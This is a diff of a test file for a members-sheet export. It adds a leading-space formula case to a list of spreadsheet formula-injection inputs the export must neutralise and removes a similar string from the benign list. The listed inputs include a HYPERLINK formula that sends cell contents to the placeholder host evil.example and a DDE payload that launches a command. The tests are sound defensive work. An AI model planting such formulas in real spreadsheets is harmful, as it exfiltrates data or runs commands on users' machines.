@@ -77,6 +77,7 @@ describe('the sheet of members', () => {
     '@SUM(A1)',
     '\t1+1',
     '\r1+1',
+    ' =1+1',
     '=HYPERLINK("http://evil.example?x="&A1,"here")',
     "=cmd|' /C calc'!A0",
   ])('runs nothing in a spreadsheet: %j [T45]', async (position) => {
@@ -95,7 +96,6 @@ describe('the sheet of members', () => {
     'First line\nsecond line',
     'First line\r\nsecond line',
     'Müller & Söhne – Größe 🥑',
-    ' = with a blank before it',
     "'quoted'",
     '"',
     '',
